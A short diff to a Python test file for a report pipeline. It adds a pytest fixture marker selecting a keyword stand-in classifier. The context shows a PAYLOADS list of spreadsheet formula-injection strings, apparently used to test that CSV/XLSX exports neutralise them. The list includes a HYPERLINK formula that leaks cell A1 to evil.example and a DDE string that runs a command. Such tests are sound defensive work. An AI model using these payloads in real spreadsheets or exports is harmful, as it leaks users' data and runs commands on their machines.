@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 import csv
 import io
 import zipfile
@@ -17,6 +19,9 @@ from pipeline.reports.xlsx import write_xlsx
 
 from .conftest import ROOT
 from .makers import digital_pdf
+
+# Tests of intake, ledger, reports and the review page: the model is the keyword stand-in (tests/fake_classifier.py).
+pytestmark = pytest.mark.usefixtures("keyword_classifier")
 
 PAYLOADS = ['=HYPERLINK("evil.example?leak="&A1,"klik")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"]
 
